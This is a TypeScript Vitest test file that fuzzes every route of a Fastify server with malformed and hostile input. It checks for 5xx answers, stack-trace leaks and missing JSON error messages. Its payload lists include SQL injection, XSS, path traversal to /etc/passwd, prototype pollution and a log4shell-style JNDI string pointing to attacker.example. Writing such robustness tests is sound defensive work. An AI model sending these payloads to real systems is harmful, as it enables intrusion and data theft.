import { randomUUID } from 'node:crypto'
import type { InjectOptions, LightMyRequestResponse, RouteOptions } from 'fastify'
import { afterAll, describe, expect, it, vi } from 'vitest'
import type { ZodType } from 'zod'
import { DEMO_PASSWORD } from '#common/demo-accounts.ts'
import { startTestServer, TestClient } from '#tests/helpers/server.ts'
import { containsStackTrace } from '#tests/helpers/stack-trace.ts'
import { LOOPBACK_LIMITS } from '../../scripts/server-process.ts'

/**
 * Every route the app registers, signed out and signed in, gets malformed and hostile input.
 * Nothing may answer 5xx, leak a stack trace, or answer an error without a JSON `message`.
 */

// Every Fastify instance the app builds records its routes, so no route can be missed.
const registered = vi.hoisted(() => [] as RecordedRoute[])
vi.mock('fastify', async (importOriginal) => {
  const fastify = await importOriginal<typeof import('fastify')>()
  const recordingFastify = ((options: Parameters<typeof fastify.default>[0]) => {
    const app = fastify.default(options)
    app.addHook('onRoute', (route) => {
      registered.push({ method: route.method, url: route.url, schema: route.schema })
    })
    return app
  }) as typeof fastify.default
  return { ...fastify, default: recordingFastify }
})

const server = await startTestServer(LOOPBACK_LIMITS)
afterAll(() => server.close())

/** Paths the web app's static files and SPA fallback own; only GET/HEAD routes may live there. */
const SERVER_PREFIXES = ['/api/', '/dev/', '/healthz', '/readyz']
const SKIPPED_URLS = new Set(['/ws'])
const BODY_METHODS = new Set(['POST', 'PUT', 'PATCH', 'DELETE'])

type RecordedRoute = Pick<RouteOptions, 'method' | 'url' | 'schema'>
type Route = { method: string; url: string; schema: RouteSchema }
type RouteSchema = { body?: ZodType; querystring?: ZodType; params?: ZodType }

const allRoutes = registered.flatMap((route) =>
  (Array.isArray(route.method) ? route.method : [route.method]).map((method) => ({
    method,
    url: route.url,
    schema: (route.schema ?? {}) as RouteSchema,
  })),
)
const routes: Route[] = allRoutes.filter(
  (route) =>
    route.method !== 'HEAD' &&
    !SKIPPED_URLS.has(route.url) &&
    !route.url.includes('*') &&
    SERVER_PREFIXES.some((prefix) => route.url.startsWith(prefix)),
)

const BIG_STRING = 'A'.repeat(200 * 1024)
const OVERSIZED_BODY = JSON.stringify({ username: 'x'.repeat(1024 * 1024 + 1024) })
const HOSTILE_STRINGS = [
  "' OR '1'='1' --",
  "Robert'); DROP TABLE users;--",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style payload, sent as plain text
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '𝕳𝖊𝖑𝖑𝖔 🚀 Ωμέγα ñandú 中文 العربية',
  '\u202eevil\u200b\ufeff',
  'nul\u0000byte',
  'a-value-long-enough-for-a-token-\u0000-with-a-nul-inside',
  '\ud800 lone surrogate',
  '%00%27%22',
]
const HUGE_NUMBERS = ['1e999', '-1e999', '123456789012345678901234567890', '-0', '9007199254740993']
const BAD_PATH_PARAMS = [
  'not-a-uuid',
  '123',
  "1' OR '1'='1",
  '<script>',
  '%00',
  '%E0%A4%A',
  '..%2F..%2Fetc%2Fpasswd',
  encodeURIComponent('💥'),
  'x'.repeat(150),
  '00000000-0000-0000-0000-00000000000g',
  `${randomUUID()}extra`,
]

type Attack = {
  name: string
  request: InjectOptions
  /** True when the input is invalid whatever the route does with it: the answer must be 4xx. */
  mustFail: boolean
}

describe('bad input on every route', () => {
  it('collects the routes, including every path of the OpenAPI document', async () => {
    expect(routes.length).toBeGreaterThan(10)
    // Routes outside the server's prefixes can only be the web app's static files.
    for (const route of allRoutes.filter((candidate) => !routes.includes(candidate as Route))) {
      if (SKIPPED_URLS.has(route.url)) continue
      expect(['GET', 'HEAD'], `${route.method} ${route.url}`).toContain(route.method)
    }
    const openapi = (await server.app.inject({ method: 'GET', url: '/api/openapi.json' })).json() as {
      paths: Record<string, Record<string, unknown>>
    }
    const known = routes.map((route) => `${route.method} ${route.url}`)
    for (const [openapiPath, operations] of Object.entries(openapi.paths)) {
      for (const method of Object.keys(operations)) {
        const url = openapiPath.replace(/\{(\w+)\}/g, ':$1')
        if (method === 'head') continue
        expect(known, `${method} ${url}`).toContain(`${method.toUpperCase()} ${url}`)
      }
    }
  })

  describe.each(['signed out', 'signed in'] as const)('%s', (state) => {
    it.each(routes.map((route) => [`${route.method} ${route.url}`, route] as const))(
      '%s: never 5xx or a stack trace; errors carry a JSON message',
      async (_name, route) => {
        const problems: string[] = []
        for (const attack of attacksOn(route)) {
          const client = state === 'signed in' ? await signedInDemo() : new TestClient(server.app)
          const response = await client.request(attack.request)
          // Only a call that was carried out can have ended the session (a logout, a password
          // change); a 401 says it has ended.
          if (state === 'signed in' && (response.statusCode < 400 || response.statusCode === 401))
            demoSessionInDoubt = true
          problems.push(...problemsWith(response, attack).map((problem) => `${attack.name}: ${problem}`))
        }
        expect(problems).toEqual([])
      },
    )
  })
})

describe('the answers to typical mistakes', () => {
  const post = (payload: string, contentType = 'application/json') =>
    new TestClient(server.app).request({
      method: 'POST',
      url: '/api/login',
      payload,
      headers: { 'content-type': contentType },
    })

  it('malformed JSON is a 400 saying so', async () => {
    const response = await post('{"username":')
    expect(response.statusCode).toBe(400)
    expect(response.json()).toEqual({
      message: 'The request body is not valid JSON',
      code: expect.any(String),
    })
  })

  it('a body over the limit is a 413, an unsupported content type a 415', async () => {
    const tooLarge = await post(OVERSIZED_BODY)
    expect(tooLarge.statusCode).toBe(413)
    expect(tooLarge.json().message).toBe('The request body is too large')
    const xml = await post('<login/>', 'application/xml')
    expect(xml.statusCode).toBe(415)
    expect(xml.json().message).toBe('Unsupported content type: send application/json')
  })

  it('a body of the wrong shape is a 400 with the field issues', async () => {
    const array = await post('[{"username":"demo"}]')
    expect(array.statusCode).toBe(400)
    expect(array.json()).toMatchObject({
      code: 'VALIDATION_FAILED',
      issues: [expect.objectContaining({ path: 'body' })],
    })
    const wrongType = await post(JSON.stringify({ username: 42, password: null }))
    expect(wrongType.statusCode).toBe(400)
    const paths = (wrongType.json().issues as { path: string }[]).map((issue) => issue.path)
    expect(paths).toEqual(expect.arrayContaining(['body.username', 'body.password']))
  })

  it('a prototype-polluting body is refused', async () => {
    const response = await post('{"__proto__":{"role":"super_admin"},"username":"x","password":"y"}')
    expect(response.statusCode).toBe(400)
  })

  it('a NUL character, which PostgreSQL cannot store, is a 400 rather than a 500', async () => {
    const response = await post(JSON.stringify({ username: 'de\u0000mo', password: 'whatever-password' }))
    expect(response.statusCode).toBe(400)
    expect(response.json()).toEqual({
      message: 'The request contains characters that cannot be stored, such as a NUL character',
      code: 'INVALID_CHARACTERS',
    })
  })

  it('a path parameter that is not a uuid is a 400 naming the parameter', async () => {
    const client = await signedInDemo()
    const response = await client.put('/api/notifications/not-a-uuid/read')
    expect(response.statusCode).toBe(400)
    expect(response.json()).toMatchObject({ code: 'VALIDATION_FAILED', issues: [{ path: 'params.id' }] })
  })
})

let demo: TestClient | undefined
let demoSessionInDoubt = false
/** The demo user's client, signed in again whenever an attack (logout, login…) ended its session. */
async function signedInDemo(): Promise<TestClient> {
  if (demo && !demoSessionInDoubt) return demo
  demoSessionInDoubt = false
  if (demo && (await demo.get('/api/user')).statusCode === 200) return demo
  demo = new TestClient(server.app)
  const login = await demo.post('/api/login', { username: 'demo', password: DEMO_PASSWORD })
  expect(login.statusCode, login.body).toBe(200)
  return demo
}

function problemsWith(response: LightMyRequestResponse, attack: Attack): string[] {
  const problems: string[] = []
  const status = response.statusCode
  if (status >= 500) problems.push(`status ${status}: ${response.body.slice(0, 300)}`)
  if (attack.mustFail && (status < 400 || status >= 500)) problems.push(`expected 4xx, got ${status}`)
  if (containsStackTrace(response.body)) {
    problems.push(`stack trace in body: ${response.body.slice(0, 300)}`)
  }
  if (status >= 400) {
    if (!String(response.headers['content-type']).startsWith('application/json')) {
      problems.push(`content-type ${response.headers['content-type']}`)
    } else {
      const body = response.json() as { message?: unknown; issues?: unknown }
      if (typeof body.message !== 'string' || body.message === '')
        problems.push(`no message: ${response.body}`)
      if (status === 400 && attack.mustFail && body.issues !== undefined && !Array.isArray(body.issues)) {
        problems.push(`issues is not an array: ${response.body}`)
      }
    }
  }
  return problems
}

/** The hostile requests for one route; whether each must fail follows from the route's own schemas. */
function attacksOn(route: Route): Attack[] {
  const url = route.url.replace(/:\w+/g, () => randomUUID())
  const attacks: Attack[] = []
  if (BODY_METHODS.has(route.method)) attacks.push(...bodyAttacks(route, url))
  if (route.schema.querystring) attacks.push(...queryAttacks(route, url))
  if (route.url.includes(':')) attacks.push(...pathAttacks(route))
  attacks.push({
    name: 'junk query string',
    request: { method: route.method as 'GET', url: `${url}?__proto__[admin]=1&constructor[x]=1&a[]=1&a[]=2` },
    mustFail: false,
  })
  return attacks
}

function bodyAttacks(route: Route, url: string): Attack[] {
  const { body: bodySchema } = route.schema
  const fields = objectFields(bodySchema)
  const method = route.method as 'POST'
  const json = (name: string, payload: string): Attack => ({
    name,
    request: { method, url, payload, headers: { 'content-type': 'application/json' } },
    mustFail: !acceptsBody(route, payload),
  })
  const withFields = (value: unknown) =>
    JSON.stringify(Object.fromEntries(fields.map((field) => [field, value])))
  const wrongTypes: unknown[] = [12345, -1.5, true, null, {}, { nested: { deeper: [1, 2] } }, [], ['a', 'b']]

  return [
    { ...json('malformed JSON', '{"username":'), mustFail: true },
    { ...json('truncated JSON string', '{"username":"dem'), mustFail: true },
    { ...json('prototype pollution', '{"__proto__":{"role":"super_admin"},"username":"x"}'), mustFail: true },
    {
      ...json('constructor pollution', '{"constructor":{"prototype":{"role":"super_admin"}}}'),
      mustFail: true,
    },
    json('empty JSON body', ''),
    json('JSON array', '[{"username":"demo"}]'),
    json('empty JSON array', '[]'),
    json('JSON string', '"demo"'),
    json('JSON number', '42'),
    json('JSON null', 'null'),
    json('every field a number', withFields(12345)),
    ...fields.flatMap((field) =>
      wrongTypes.map((value) =>
        json(
          `${field} = ${JSON.stringify(value)}`,
          JSON.stringify({ ...validLooking(fields), [field]: value }),
        ),
      ),
    ),
    ...fields.map((field) =>
      json(`${field} of 200 kB`, JSON.stringify({ ...validLooking(fields), [field]: BIG_STRING })),
    ),
    ...fields.flatMap((field) =>
      HUGE_NUMBERS.map((number) =>
        json(
          `${field} = ${number}`,
          `{${fields.map((name) => `"${name}":${name === field ? number : '"x"'}`).join(',')}}`,
        ),
      ),
    ),
    ...HOSTILE_STRINGS.map((text) => json(`every field ${JSON.stringify(text)}`, withFields(text))),
    {
      name: 'body over the limit',
      request: { method, url, payload: OVERSIZED_BODY, headers: { 'content-type': 'application/json' } },
      mustFail: true,
    },
    {
      name: 'text/plain body',
      request: { method, url, payload: 'username=demo', headers: { 'content-type': 'text/plain' } },
      mustFail: !acceptsBody(route, JSON.stringify('username=demo')),
    },
    ...[
      'application/xml',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'nonsense',
    ].map(
      (contentType): Attack => ({
        name: `${contentType} body`,
        request: {
          method,
          url,
          payload: '<username>demo</username>',
          headers: { 'content-type': contentType },
        },
        mustFail: true,
      }),
    ),
  ]
}

function queryAttacks(route: Route, url: string): Attack[] {
  const schema = route.schema.querystring!
  const attacks: Attack[] = []
  for (const field of objectFields(schema)) {
    for (const value of ['abc', '-1', '', BIG_STRING, ...HUGE_NUMBERS, ...HOSTILE_STRINGS]) {
      attacks.push({
        name: `?${field}=${value.slice(0, 40)}`,
        request: { method: route.method as 'GET', url: `${url}?${field}=${percentEncoded(value)}` },
        mustFail: !schema.safeParse({ [field]: value }).success,
      })
    }
    attacks.push({
      name: `?${field} repeated`,
      request: { method: route.method as 'GET', url: `${url}?${field}=1&${field}=2` },
      mustFail: !schema.safeParse({ [field]: ['1', '2'] }).success,
    })
  }
  return attacks
}

function pathAttacks(route: Route): Attack[] {
  return BAD_PATH_PARAMS.map((value) => ({
    name: `path parameter ${value.slice(0, 40)}`,
    request: {
      method: route.method as 'GET',
      url: route.url.replace(/:\w+/g, value),
      ...(BODY_METHODS.has(route.method) ? { payload: {} } : {}),
    },
    mustFail: true,
  }))
}

/** Percent-encodes the UTF-8 bytes, so even a lone surrogate makes a URL (encodeURIComponent throws). */
function percentEncoded(value: string): string {
  return [...Buffer.from(value)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
}

function objectFields(schema: ZodType | undefined): string[] {
  const shape = (schema as { shape?: Record<string, unknown> } | undefined)?.shape
  return shape ? Object.keys(shape) : []
}

/** Plausible strings for every field, so one wrong field is the only problem of a request. */
function validLooking(fields: string[]): Record<string, string> {
  return Object.fromEntries(fields.map((field) => [field, `value-for-${field}-0123456789`]))
}

/** Whether the route's body schema accepts the payload (a route without one accepts anything parseable). */
function acceptsBody(route: Route, payload: string): boolean {
  let parsed: unknown
  try {
    parsed = payload.trim() === '' ? undefined : JSON.parse(payload)
  } catch {
    return false
  }
  if (!route.schema.body) return true
  return route.schema.body.safeParse(parsed).success
}
